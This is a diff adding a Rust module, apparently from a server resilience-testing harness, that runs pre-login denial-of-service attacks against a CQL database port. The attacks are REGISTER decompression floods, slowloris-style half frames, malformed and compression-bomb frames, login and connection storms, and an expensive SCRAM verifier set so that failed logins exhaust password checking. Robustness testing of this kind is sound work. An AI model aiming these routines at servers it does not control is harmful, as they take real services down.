@@ -1,0 +1,197 @@
+//! CQL before login: whatever reaches the port.
+
+use std::io::Write;
+use std::time::Duration;
+
+use wire::{Compression, Request};
+
+use super::crowd;
+use crate::answers::{Answer, CLOSED};
+use crate::attack::Run;
+use crate::dial::{RUDE, reset_on_close};
+use crate::native::{Native, lost};
+use crate::target::PASSWORD;
+
+/// Empty event types in one REGISTER: its body then just fits what is accepted before login, 64 KiB.
+const EVENT_TYPES: usize = 32_766;
+/// Connections of one client that hold something.
+const HELD: usize = 1_024;
+/// Threads that log in or connect, so that the server's side is the limit.
+const STORMERS: usize = 16;
+/// OPTIONS in one write: 32 KiB of frames of 9 bytes.
+const OPTIONS_AT_ONCE: usize = 32 * 1024 / 9;
+
+/// REGISTER frames of some 290 bytes that each inflate to 64 KiB, without pause, before login.
+pub(crate) fn register(run: &Run) -> Result<(), Answer> {
+    while run.round() {
+        let mut native = Native::open(&run.target, RUDE)?;
+        native.start(Compression::Lz4)?;
+        let frame = native.encode(0, &Request::Register(vec![""; EVENT_TYPES]));
+        let mut sends = native.stream.try_clone().map_err(|error| lost(&error))?;
+        std::thread::scope(|scope| {
+            let sender = scope.spawn(move || {
+                // Ends with the connection: the server closes it, or the reader does.
+                while run.has_time() && sends.write_all(&frame).is_ok() {}
+                drop(sends.shutdown(std::net::Shutdown::Write));
+            });
+            while run.count(native.answer()) {}
+            drop(native.stream.shutdown(std::net::Shutdown::Both));
+            drop(sender.join());
+        });
+    }
+    Ok(())
+}
+
+/// OPTIONS in bulk on many connections, whose answers are never read.
+pub(crate) fn options_unread(run: &Run) -> Result<(), Answer> {
+    let mut held = Vec::new();
+    while run.round() && held.len() < HELD / 4 {
+        let Ok(mut native) = Native::open_for(&run.target, RUDE, Duration::from_millis(200)) else {
+            continue;
+        };
+        let frame = native.encode(0, &Request::Options);
+        // A server that stops reading lets this write time out, which is what it should do.
+        let _ = native.send(&frame.repeat(OPTIONS_AT_ONCE));
+        held.push(native);
+    }
+    run.hold(|| {});
+    Ok(())
+}
+
+/// Connections that say nothing.
+pub(crate) fn idle(run: &Run) -> Result<(), Answer> {
+    let mut held = Vec::new();
+    while run.round() && held.len() < HELD {
+        match Native::open(&run.target, RUDE) {
+            Ok(native) => held.push(native),
+            Err(answer) => run.saw(answer),
+        }
+    }
+    run.hold(|| {});
+    Ok(())
+}
+
+/// Frames begun and not finished, a byte more now and then.
+pub(crate) fn half_frames(run: &Run) -> Result<(), Answer> {
+    let mut held = Vec::new();
+    while run.round() && held.len() < HELD / 4 {
+        let mut native = Native::open(&run.target, RUDE)?;
+        // STARTUP of protocol v4 on stream 0, whose body of 60,000 bytes never comes.
+        let _ = native.send(&[4, 0, 0, 0, 1, 0, 0, 0xEA, 0x60, 0]);
+        held.push(native);
+    }
+    run.hold(|| held.retain_mut(|native| native.send(&[0]).is_ok()));
+    Ok(())
+}
+
+/// Bytes of other protocols, and headers that cannot be.
+pub(crate) fn garbage(run: &Run) -> Result<(), Answer> {
+    const WORDS: [&[u8]; 7] = [
+        b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
+        // The start of a TLS handshake.
+        &[0x16, 3, 1, 2, 0, 1, 0, 1, 0xFC, 3, 3, 0, 0, 0, 0, 0],
+        // Protocol versions 0 and 127, and a response.
+        &[0, 0, 0, 0, 5, 0, 0, 0, 0],
+        &[0x7F, 0, 0, 0, 5, 0, 0, 0, 0],
+        &[0x84, 0, 0, 0, 2, 0, 0, 0, 0],
+        // A body of 4 GiB, and an opcode that does not exist.
+        &[4, 0, 0, 0, 1, 0xFF, 0xFF, 0xFF, 0xFF],
+        &[4, 0, 0, 0, 0x55, 0, 0, 0, 0],
+    ];
+    for n in 0.. {
+        if !run.round() {
+            break;
+        }
+        let mut native = Native::open(&run.target, RUDE)?;
+        reset_on_close(&native.stream).map_err(|error| lost(&error))?;
+        let _ = native.send(WORDS[n % WORDS.len()]);
+        run.count(native.answer());
+    }
+    Ok(())
+}
+
+/// Compressed bodies that claim what they cannot hold, and bodies that inflate as far as they can.
+pub(crate) fn bombs(run: &Run) -> Result<(), Answer> {
+    // LZ4: a length of 256 MiB over four bytes. Snappy: a length of 4 GiB over one.
+    let lies: [(Compression, &[u8]); 2] = [
+        (Compression::Lz4, &[0x10, 0, 0, 0, 0x1F, 0, 1, 0]),
+        (Compression::Snappy, &[0xFF, 0xFF, 0xFF, 0xFF, 0x0F, 0]),
+    ];
+    for n in 0.. {
+        if !run.round() {
+            break;
+        }
+        let (compression, body) = lies[n % 2];
+        let mut native = Native::open(&run.target, RUDE)?;
+        reset_on_close(&native.stream).map_err(|error| lost(&error))?;
+        native.start(compression)?;
+        // AUTH_RESPONSE, compressed.
+        let mut frame = vec![4, 1, 0, 0, 0x0F];
+        frame.extend_from_slice(&(body.len() as u32).to_be_bytes());
+        frame.extend_from_slice(body);
+        let lie = native.send(&frame).and_then(|()| native.answer());
+        if run.count(lie) {
+            let zeros = vec![0; 60_000];
+            let token = native.ask(&Request::AuthResponse(Some(&zeros)));
+            run.count(token);
+        }
+    }
+    Ok(())
+}
+
+/// As many failing logins as the server takes.
+pub(crate) fn login_storm(run: &Run) -> Result<(), Answer> {
+    crowd(STORMERS, |thread| {
+        while run.round() {
+            let outcome = Native::open(&run.target, RUDE).and_then(|mut native| {
+                reset_on_close(&native.stream).map_err(|error| lost(&error))?;
+                native.start(Compression::None)?;
+                // Names that are there and names that are not.
+                native.authenticate(["admin", "nobody", "nowhere"][thread % 3], "wrong")
+            });
+            run.count(outcome);
+        }
+        Ok(())
+    })
+}
+
+/// Connections that are closed as soon as they are open.
+pub(crate) fn connect_storm(run: &Run) -> Result<(), Answer> {
+    crowd(STORMERS, |_| {
+        while run.round() {
+            if let Ok(native) = Native::open(&run.target, RUDE) {
+                reset_on_close(&native.stream).map_err(|error| lost(&error))?;
+            }
+        }
+        Ok(())
+    })
+}
+
+/// Gives the role a verifier that is expensive to check, then fails to log in as it.
+pub(crate) fn verifier(run: &Run) -> Result<(), Answer> {
+    let mut native = Native::open(&run.target, RUDE)?;
+    native.log_in(run.role.name(), Compression::None)?;
+    // 16 and 32 bytes in base64: salt, stored key, server key.
+    let (salt, key) = ("AAAAAAAAAAAAAAAAAAAAAA==", "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");
+    let text = format!(
+        "ALTER ROLE {} WITH HASHED PASSWORD = 'SCRAM-SHA-256$1000000:{salt}${key}:{key}'",
+        run.role.name()
+    );
+    run.count(native.query(&text));
+    crowd(STORMERS, |_| {
+        while run.round() {
+            let mut native = Native::open(&run.target, RUDE)?;
+            native.start(Compression::None)?;
+            // The answer is not waited for: all places for password checks fill up.
+            let token = format!("\0{}\0not {PASSWORD}", run.role.name());
+            let frame = native.encode(0, &Request::AuthResponse(Some(token.as_bytes())));
+            native.send(&frame)?;
+            native.stream.set_read_timeout(Some(Duration::from_millis(40))).map_err(|error| lost(&error))?;
+            match native.answer() {
+                Err(answer) if answer.label != CLOSED => {}
+                outcome => drop(run.count(outcome)),
+            }
+        }
+        Ok(())
+    })
+}
